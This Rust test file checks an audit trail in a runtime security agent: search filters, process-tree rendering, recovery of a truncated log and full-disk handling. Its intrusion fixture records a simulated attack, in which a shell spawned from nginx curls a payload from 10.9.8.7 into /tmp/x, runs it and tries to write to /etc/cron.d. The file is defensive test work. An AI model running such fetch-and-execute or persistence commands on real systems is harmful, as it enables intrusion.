//! The trail from the queue to the answer: kept, searched, told as a tree.
#![allow(clippy::unwrap_used, clippy::too_many_lines)] // A test log that cannot be made is a failure.

use std::collections::BTreeMap;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use lazaret_agent::audit::{self, Around, Kept, LateLog, TreeWindow, Writer};
use lazaret_agent::trail::Trail;
use model::{
    Alert, AlertSource, Ancestor, AuditKind, AuditOutcome, AuditRecord, ContainerRef, Engine,
    Initiator, Priority, ProcessId, Severity,
};
use store::audit::{AuditLog, AuditOptions, AuditQuery, AuditReader};

const ALL: std::ops::Range<i64> = i64::MIN..i64::MAX;
/// 2026-11-25T10:00:00Z.
const BEGIN_NS: i64 = 1_795_600_800_000_000_000;
const SECOND_NS: i64 = 1_000_000_000;

fn process(pid: u32) -> ProcessId {
    ProcessId { pid, start_ns: u64::from(pid) * 1000 }
}

/// What a process did; `line` is who it is and who started it, the process first.
fn did(
    second: i64,
    kind: AuditKind,
    container: Option<&str>,
    line: &[(u32, &str)],
    text: &str,
) -> AuditRecord {
    let ancestors: Vec<Ancestor> = line
        .iter()
        .skip(1)
        .map(|(pid, exe)| Ancestor {
            process: process(*pid),
            exe: (*exe).to_owned(),
            command: exe.rsplit('/').next().unwrap_or_default().to_owned(),
        })
        .collect();
    AuditRecord {
        time_ns: BEGIN_NS + second * SECOND_NS,
        kind,
        action: match kind {
            AuditKind::Command => "exec",
            AuditKind::Connection => "connect",
            AuditKind::File => "write",
            AuditKind::Alert => "syscall",
            _ => "kill",
        }
        .to_owned(),
        initiator: Initiator {
            process: process(line[0].0),
            parent: ancestors.first().map(|one| one.process).unwrap_or_default(),
            exe: line[0].1.to_owned(),
            command: if kind == AuditKind::Command { text.to_owned() } else { String::new() },
            uid: Some(33),
            user: "www-data".into(),
            session: 7,
            ancestors,
            ..Initiator::default()
        },
        container: container.map(|name| ContainerRef {
            id: format!("{name:0<64}"),
            name: name.to_owned(),
            engine: Engine::Docker,
            image: "shop/web:3".into(),
            ..ContainerRef::default()
        }),
        text: text.to_owned(),
        node: "node-1".into(),
        ..AuditRecord::default()
    }
}

const SHIM: (u32, &str) = (100, "/usr/bin/containerd-shim-runc-v2");
const NGINX: (u32, &str) = (200, "/usr/sbin/nginx");
const SH: (u32, &str) = (300, "/bin/dash");
const CURL: (u32, &str) = (310, "/usr/bin/curl");
const X: (u32, &str) = (320, "/tmp/x");

/// Somebody comes in through a web server, fetches a program, runs it and is stopped.
fn intrusion() -> Vec<AuditRecord> {
    use AuditKind::{Alert, Command, Connection, File, Response};
    let web = Some("web");
    let target =
        |record: AuditRecord, target: &str| AuditRecord { target: target.to_owned(), ..record };
    vec![
        did(-7200, Command, web, &[NGINX, SHIM], "nginx -g 'daemon off;'"),
        did(0, Command, web, &[(250, "/usr/bin/date"), NGINX, SHIM], "date"),
        did(1, Command, Some("db"), &[(260, "/usr/bin/psql"), SHIM], "psql -c 'select 1'"),
        did(5, Command, web, &[SH, NGINX, SHIM], "sh -c 'curl -o /tmp/x http://10.9.8.7/x'"),
        did(6, Command, web, &[CURL, SH, NGINX, SHIM], "curl -o /tmp/x http://10.9.8.7/x"),
        target(
            did(6, Connection, web, &[CURL, SH, NGINX, SHIM], ""),
            "172.17.0.2:40000->10.9.8.7:80",
        ),
        target(did(7, File, web, &[CURL, SH, NGINX, SHIM], ""), "/tmp/x"),
        did(9, Command, web, &[X, SH, NGINX, SHIM], "/tmp/x \u{1b}[31m-d"),
        AuditRecord {
            severity: Severity::High,
            rule: "Drift".into(),
            details: BTreeMap::from([("priority".into(), "critical".into())]),
            ..did(9, Alert, web, &[X, SH, NGINX, SHIM], "a program that is not in the image")
        },
        AuditRecord {
            outcome: AuditOutcome::Denied,
            ..target(did(10, File, web, &[X, SH, NGINX, SHIM], ""), "/etc/cron.d/x")
        },
        AuditRecord {
            container: None,
            rule: "Drift".into(),
            ..did(11, Response, None, &[X, SH, NGINX, SHIM], "the process was killed")
        },
        did(7300, Command, web, &[(900, "/usr/bin/date"), NGINX, SHIM], "date"),
    ]
}

fn log_of(folder: &Path, records: &[AuditRecord]) -> AuditReader {
    let mut log = AuditLog::open(folder, AuditOptions::default()).unwrap();
    let (sealed, active) = records.split_at(records.len() / 2);
    log.append(sealed).unwrap();
    log.seal().unwrap();
    log.append(active).unwrap();
    AuditReader::open(folder).unwrap()
}

#[test]
fn conditions_find_records_in_both_forms_of_segments() {
    let scratch = tempfile::tempdir().unwrap();
    let reader = log_of(scratch.path(), &intrusion());
    let check = |filter: &str, expected: &[u64]| {
        let condition = audit::compile(filter).unwrap();
        let found = audit::search(&reader, Some(&condition), ALL, 100).unwrap();
        let numbers: Vec<u64> = found.found.iter().map(|one| one.number).collect();
        assert_eq!(numbers, expected, "{filter}");
        assert_eq!(found.scanned.damaged, []);
    };
    check("audit.kind = command and proc.exe endswith /curl and container.name = web", &[5]);
    check("evt.time > 2026-11-25T10:00:08Z and evt.time < 2026-11-25T11:00:00Z", &[8, 9, 10, 11]);
    check("audit.severity >= medium", &[9]);
    check("audit.rule = Drift and audit.details[priority] = critical", &[9]);
    check("fd.name = /tmp/x or fd.rip = 10.9.8.0/24 and fd.rport = 80", &[6, 7]);
    check("container.name = host", &[11]);
    check("container.id = db0000000000", &[3]);
    check("proc.aname[2] = nginx and audit.kind = connection", &[6]);
    check("proc.pname = dash and audit.kind = command", &[5, 8]);
    check("proc.aexepath = /bin/dash and evt.failed = true", &[10]);
    check("user.name = www-data and user.uid = 33 and user.loginuid = -1 and evt.num < 3", &[1, 2]);
    check("proc.id = 320@320000 and audit.kind = response", &[11]);
    check("not proc.name exists", &[]);
    check("container.image startswith shop/ and audit.text contains date", &[2, 12]);

    let newest = audit::search(&reader, None, ALL, 2).unwrap();
    assert!(newest.is_cut);
    assert_eq!(newest.found.iter().map(|one| one.number).collect::<Vec<_>>(), [11, 12]);
    let wrong = audit::compile("audit.kind = comand").unwrap_err().to_string();
    assert!(wrong.contains("comand"), "{wrong}");
}

#[test]
fn a_tree_tells_who_started_it_and_what_it_did() {
    let scratch = tempfile::tempdir().unwrap();
    let reader = log_of(scratch.path(), &intrusion());
    let tree = audit::tree(&reader, Around::Record(9), TreeWindow::default()).unwrap().unwrap();
    let lines: Vec<String> = audit::lines(&tree)
        .iter()
        .map(|line| format!("{}{}", line.branches, line.text).trim_end().to_owned())
        .collect();
    let expected = "\
record 9: 2026-11-25 10:00:09.000Z #9 alert syscall high Drift: a program that is not in the image
/usr/bin/containerd-shim-runc-v2 100@100000
└─ /usr/sbin/nginx 200@200000
   ├─ /usr/bin/date 250@250000 www-data [web]
   │     10:00:00.000 #2 command exec date
   └─ /bin/dash 300@300000 www-data [web]
      │  10:00:05.000 #4 command exec sh -c 'curl -o /tmp/x http://10.9.8.7/x'
      ├─ /usr/bin/curl 310@310000 www-data [web]
      │     10:00:06.000 #5 command exec curl -o /tmp/x http://10.9.8.7/x
      │     10:00:06.000 #6 connection connect 172.17.0.2:40000->10.9.8.7:80
      │     10:00:07.000 #7 file write /tmp/x
      └─ /tmp/x 320@320000 www-data [web]
            10:00:09.000 #8 command exec /tmp/x \\u{1b}[31m-d
          ◆ 10:00:09.000 #9 alert syscall high Drift: a program that is not in the image
            10:00:10.000 #10 file write (denied) /etc/cron.d/x
            10:00:11.000 #11 response kill Drift: the process was killed";
    assert_eq!(lines.join("\n"), expected);
    let by_process: Around = "320@320000".parse().unwrap();
    let same = audit::tree(&reader, by_process, TreeWindow::default()).unwrap().unwrap();
    assert_eq!((same.around.number, same.processes.len()), (8, tree.processes.len()));
    assert!(audit::tree(&reader, Around::Record(99), TreeWindow::default()).unwrap().is_none());
    assert!("12@".parse::<Around>().is_err() && "x".parse::<Around>().is_err());
}

/// Circles and self-parents come from nowhere but broken records; a tree must end all the same.
#[test]
fn records_that_go_in_circles_make_a_tree() {
    let scratch = tempfile::tempdir().unwrap();
    let (a, b) = ((1, "/a"), (2, "/b"));
    let records = [
        did(0, AuditKind::Command, None, &[a, b, a], "a"),
        did(1, AuditKind::Command, None, &[b, a, b], "b"),
        did(2, AuditKind::Command, None, &[a, a], "a"),
        AuditRecord::default(),
    ];
    let reader = log_of(scratch.path(), &records);
    for number in 1..5 {
        let window = TreeWindow { before_ns: i64::MAX, after_ns: i64::MAX };
        let tree = audit::tree(&reader, Around::Record(number), window).unwrap().unwrap();
        let lines = audit::lines(&tree);
        assert!(lines.iter().any(|line| line.is_center), "{number}: {lines:?}");
    }
}

fn alert(text: &str) -> Alert {
    Alert {
        time_ns: BEGIN_NS,
        rule: "Drift".into(),
        source: AlertSource::Drift,
        priority: Priority::Critical,
        tags: Vec::new(),
        text: text.to_owned(),
        fields: BTreeMap::new(),
        initiator: None,
        container: None,
        image: None,
        node: "node-1".into(),
        times: 1,
    }
}

fn numbered(number: usize) -> AuditRecord {
    AuditRecord { target: number.to_string(), ..AuditRecord::default() }
}

fn targets(reader: &AuditReader) -> Vec<String> {
    let mut targets = Vec::new();
    let scanned = audit::each(reader, None, AuditQuery::default(), &mut |_, record| {
        targets.push(if record.target.is_empty() { record.text } else { record.target });
        std::ops::ControlFlow::Continue(())
    });
    assert_eq!(scanned.unwrap().damaged, []);
    targets
}

#[test]
fn what_is_queued_when_it_is_stopped_is_kept_and_then_passed_on() {
    let scratch = tempfile::tempdir().unwrap();
    let log = AuditLog::open(scratch.path(), AuditOptions::default()).unwrap();
    let reader = AuditReader::open(scratch.path()).unwrap();
    let (trail, entries) = Trail::open();
    for number in 0..5000 {
        trail.record(numbered(number));
    }
    trail.alert(alert("look"));
    let passed: Arc<Mutex<Vec<String>>> = Arc::default();
    let (sink_reader, sunk) = (reader.clone(), Arc::clone(&passed));
    let sink = move |kept: Kept<'_>| {
        let numbers = kept.numbers.unwrap();
        // It is in the log before anybody hears of it.
        assert!(sink_reader.next_number().unwrap() >= numbers.end);
        assert_eq!(numbers.end - numbers.start, kept.entries.len() as u64);
        sunk.lock().unwrap().extend(kept.entries.iter().map(|entry| entry.to_record().target));
    };
    let writer = Writer::start(entries, log, "node-1", Box::new(sink)).unwrap();
    let end = writer.stop();
    assert_eq!((end.kept, end.lost), (5001, 0));
    let expected: Vec<String> = (0..5000).map(|number| number.to_string()).collect();
    let targets = targets(&reader);
    assert_eq!((&targets[..5000], targets[5000].as_str()), (&expected[..], "look"));
    assert_eq!(passed.lock().unwrap().len(), 5001);
    assert_eq!(reader.verify(None).unwrap().broken, None);
}

#[test]
fn a_tail_that_was_cut_is_told_in_the_log() {
    let scratch = tempfile::tempdir().unwrap();
    drop(AuditLog::open(scratch.path(), AuditOptions::default()).unwrap());
    let active = scratch.path().join("0000000001.wal");
    let mut bytes = std::fs::read(&active).unwrap();
    bytes.extend_from_slice(b"half a record");
    std::fs::write(&active, bytes).unwrap();
    let log = AuditLog::open(scratch.path(), AuditOptions::default()).unwrap();
    let (_trail, entries) = Trail::open();
    Writer::start(entries, log, "node-1", Box::new(|_| {})).unwrap().stop();
    let reader = AuditReader::open(scratch.path()).unwrap();
    let record = reader.record(1).unwrap().unwrap();
    assert_eq!((record.kind, record.action.as_str()), (AuditKind::Agent, "recover"));
    assert!(record.text.contains("13 bytes"), "{}", record.text);
}

/// A small filesystem that goes when dropped.
struct SmallDisk(tempfile::TempDir);

impl Drop for SmallDisk {
    fn drop(&mut self) {
        let _ = rustix::mount::unmount(self.0.path(), rustix::mount::UnmountFlags::DETACH);
    }
}

#[test]
fn a_full_disk_holds_records_back_and_lets_alerts_out() {
    // The log was there before the disk was full; and it never was.
    for was_open in [true, false] {
        on_a_full_disk(was_open);
    }
}

fn on_a_full_disk(was_open: bool) {
    let folder = tempfile::tempdir().unwrap();
    let flags = rustix::mount::MountFlags::empty();
    if let Err(error) = rustix::mount::mount("tmpfs", folder.path(), "tmpfs", flags, c"size=256k") {
        eprintln!("skipped: no tmpfs can be mounted here: {error}");
        return;
    }
    let disk = SmallDisk(folder);
    let at = disk.0.path().join("audit");
    let open = || LateLog::open(&at, AuditOptions::default()).unwrap();
    let early = was_open.then(open);
    let ballast = disk.0.path().join("ballast");
    fill(&ballast);
    let log = early.unwrap_or_else(open);
    let (trail, entries) = Trail::open();
    let passed: Arc<Mutex<Vec<(String, bool)>>> = Arc::default();
    let sunk = Arc::clone(&passed);
    let sink = move |kept: Kept<'_>| {
        let texts = kept.entries.iter().map(|entry| entry.to_record().text);
        sunk.lock().unwrap().extend(texts.map(|text| (text, kept.numbers.is_some())));
    };
    let writer = Writer::start(entries, log, "node-1", Box::new(sink)).unwrap();
    trail.alert(alert(&"x".repeat(20_000)));
    trail.alert(alert("during"));
    until(|| passed.lock().unwrap().len() == 2);
    assert!(passed.lock().unwrap().iter().all(|(_, is_kept)| !is_kept));
    assert!(writer.counts().alarm().is_some_and(|why| why.contains("no space left")));

    std::fs::remove_file(&ballast).unwrap();
    until(|| writer.counts().alarm().is_none());
    trail.alert(alert("after"));
    let end = writer.stop();
    assert_eq!((end.kept, end.lost), (4, 0));
    let kept = targets(&AuditReader::open(&at).unwrap());
    assert_eq!((kept[1].as_str(), kept[3].as_str()), ("during", "after"));
    assert_eq!(kept[2], "audit log", "the gap is told");
    assert_eq!(passed.lock().unwrap().len(), 3);
}

fn fill(path: &Path) {
    use std::io::Write as _;
    let mut file = std::fs::File::create(path).unwrap();
    while file.write_all(&[0; 512]).is_ok() {}
}

fn until(holds: impl Fn() -> bool) {
    let begun = Instant::now();
    while !holds() {
        assert!(begun.elapsed() < Duration::from_secs(60), "it never comes to that");
        std::thread::sleep(Duration::from_millis(10));
    }
}
